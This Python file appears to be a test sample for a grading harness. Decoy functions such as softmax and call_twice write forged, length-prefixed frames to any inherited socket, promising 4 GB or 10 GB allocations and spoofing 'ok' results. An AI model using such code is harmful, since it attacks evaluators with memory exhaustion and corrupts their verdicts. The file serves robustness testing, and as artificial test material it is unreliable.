"""A header that promises 4 GB, or an array or list of 10 GB inside a small frame, for a reader that allocates what is promised.

base: wrong
verdict: error|failed|timeout
row: forging 14
"""
import os as _os
import stat as _stat
import struct as _struct


def _say(data):
    for number in range(3, 64):
        try:
            if _stat.S_ISSOCK(_os.fstat(number).st_mode):
                _os.write(number, data)
        except OSError:
            pass


def _frame(body):
    return _struct.pack(">IB", len(body), ord("D")) + body


def softmax(x):
    _say(_struct.pack(">IB", 2**32 - 1, ord("D")))
    return np.zeros(x.shape)


class Counter(Counter):
    def up(self):
        _say(_frame(b"\x93\xa2ok\xdd\xff\xff\xff\xff"))
        return 0


def call_twice(thing):
    array = b"\xc7\x0a\x01" + bytes([11, 1]) + _struct.pack("<Q", 10 * 2**30 // 8)
    _say(_frame(b"\x93\xa2ok\x91" + array + b"\x91\xa5array"))
    return 0.0
